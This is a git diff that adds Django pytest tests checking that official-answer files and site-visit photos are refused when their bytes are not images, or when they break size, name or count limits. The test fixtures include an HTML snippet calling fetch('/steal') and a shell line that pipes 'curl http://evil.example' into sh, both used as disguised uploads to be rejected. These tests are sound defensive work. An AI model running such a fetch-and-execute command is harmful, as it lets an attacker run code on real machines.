@@ -1,15 +1,27 @@
-"""Follow-up writes: an official's answer that cannot be recorded leaves no file behind; a rating is history."""
+"""Follow-up writes: an official's answer that cannot be recorded leaves no file behind; a rating is history;
+answer files and site-visit photos follow intake's attachment policy (limits, sniffed content)."""
 
 from pathlib import Path
 
 import pytest
 from django.conf import settings
+from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import override_settings
+from django.utils import translation
 
+from intake.attachments import ATTACHMENT_MAX_FILES, IncomingFile, attachment_check
+from intake.errors import IntakeError
 from intake.models import Attachment
 from tests.workflow.factories import official_make, reference_make, request_make
-from workflow.followup import official_answer_record, official_rating_record
-from workflow.models import OfficialAnswer
+from workflow.followup import (
+    official_answer_record,
+    official_rating_record,
+    site_visit_record,
+    upload_begin,
+    upload_chunk,
+)
+from workflow.models import ChunkedUpload, OfficialAnswer
 from workflow.services import TransitionRefused, workflow_start
 
 
@@ -60,3 +72,106 @@ def test_it_writes_a_history_row_when_a_resumable_upload_completes(operator):
     upload = upload_chunk(upload_id=upload.pk, user=operator, offset=1000, data=photo[1000:])
     row = request.history.get(action="attach")
     assert row.actor == operator and row.data["attachments"] == [upload.attachment_id]
+
+
+def _both(message) -> tuple[str, str]:
+    with translation.override("fa"):
+        fa = str(message)
+    with translation.override("en"):
+        en = str(message)
+    return fa, en
+
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+NOT_PHOTOS = [
+    (b"<html><body><script>fetch('/steal')</script></body></html>", "برنامه یا اسکریپت", "program or script"),
+    (b"#!/bin/sh\ncurl http://evil.example | sh\n", "برنامه یا اسکریپت", "program or script"),
+    (b"just some words, not a picture at all", "تصویری نیست", "not an image"),
+]
+
+
+def _upload_whole(request, user, name: str, content: bytes):
+    upload = upload_begin(request=request, user=user, filename=name, size=len(content))
+    return upload, upload_chunk(upload_id=upload.pk, user=user, offset=0, data=content)
+
+
+@pytest.mark.parametrize(("content", "fa", "en"), NOT_PHOTOS, ids=["html", "script", "text"])
+def test_it_refuses_a_site_visit_photo_whose_bytes_are_not_an_image_and_keeps_nothing(
+        operator, followup_expert, content, fa, en):
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    before = _stored_files()
+    with pytest.raises(TransitionRefused) as refused:
+        _upload_whole(request, followup_expert, "photo.jpg", content)
+    assert refused.value.status == 415
+    persian, english = _both(refused.value.message)
+    assert fa in persian and "photo.jpg" in persian and en in english
+    assert not Attachment.objects.filter(request=request).exists()
+    assert not ChunkedUpload.objects.filter(request=request).exists()
+    assert _stored_files() == before  # not even the half-built upload
+
+
+def test_it_still_turns_a_real_photo_into_a_site_visit(operator, followup_expert):
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    _upload, done = _upload_whole(request, followup_expert, "pothole.png", PNG)
+    assert done.attachment.kind == Attachment.Kind.PHOTO and done.attachment.content_type == "image/png"
+    visit = site_visit_record(request=request, actor=followup_expert, note="بازدید شد", photo_ids=[done.attachment_id])
+    assert list(visit.photos.all()) == [done.attachment]
+
+
+@pytest.mark.parametrize(("content", "fa", "en"), NOT_PHOTOS[:2], ids=["html", "script"])
+def test_it_refuses_an_official_answer_file_that_is_a_script_in_disguise(operator, followup_expert, content, fa, en):
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    before = _stored_files()
+    with pytest.raises(TransitionRefused) as refused:
+        official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه",
+                               files=[SimpleUploadedFile("answer.pdf", content)])
+    assert refused.value.status == 415
+    persian, english = _both(refused.value.message)
+    assert fa in persian and en in english
+    assert not OfficialAnswer.objects.filter(request=request).exists()
+    assert not Attachment.objects.filter(request=request).exists()
+    assert _stored_files() == before
+
+
+REFUSED_EVERYWHERE = [
+    ("tool.py", PNG, 415),                      # a script, by its name
+    ("x" * 252 + ".png", PNG, 400),             # a name longer than 255 characters
+    ("empty.png", b"", 400),
+    ("big.png", PNG + b"\x00" * 1024 * 1024, 413),
+]
+
+
+@override_settings(ATTACHMENT_MAX_BYTES=1024 * 1024)
+@pytest.mark.parametrize(("name", "content", "status"), REFUSED_EVERYWHERE, ids=["script-name", "long-name", "empty",
+                                                                                   "too-large"])
+def test_it_applies_the_same_limits_to_intake_answers_and_site_visits(operator, followup_expert, name, content,
+                                                                       status):
+    with pytest.raises(IntakeError) as intake_refusal:
+        attachment_check(IncomingFile(name=name, content=content))
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    with pytest.raises(TransitionRefused) as answer_refusal:
+        official_answer_record(request=request, actor=followup_expert, text="پاسخ",
+                               files=[ContentFile(content, name=name)])  # an upload's name would be cut to 255
+    with pytest.raises(TransitionRefused) as visit_refusal:
+        _upload_whole(request, followup_expert, name, content)
+    assert intake_refusal.value.status == answer_refusal.value.status == visit_refusal.value.status == status
+    assert not Attachment.objects.filter(request=request).exists()
+
+
+def test_it_limits_the_number_of_files_of_an_answer_and_of_a_visit_like_intake(operator, followup_expert):
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    too_many = [SimpleUploadedFile(f"page{i}.pdf", b"%PDF-1.4 page") for i in range(ATTACHMENT_MAX_FILES + 1)]
+    before = _stored_files()
+    with pytest.raises(TransitionRefused) as refused:
+        official_answer_record(request=request, actor=followup_expert, text="پاسخ", files=too_many)
+    assert refused.value.status == 400 and str(ATTACHMENT_MAX_FILES) in _both(refused.value.message)[1]
+    assert _stored_files() == before and not Attachment.objects.filter(request=request).exists()
+    photos = [_upload_whole(request, followup_expert, f"p{i}.png", PNG)[1].attachment_id
+              for i in range(ATTACHMENT_MAX_FILES + 1)]
+    with pytest.raises(TransitionRefused):
+        site_visit_record(request=request, actor=followup_expert, photo_ids=photos)
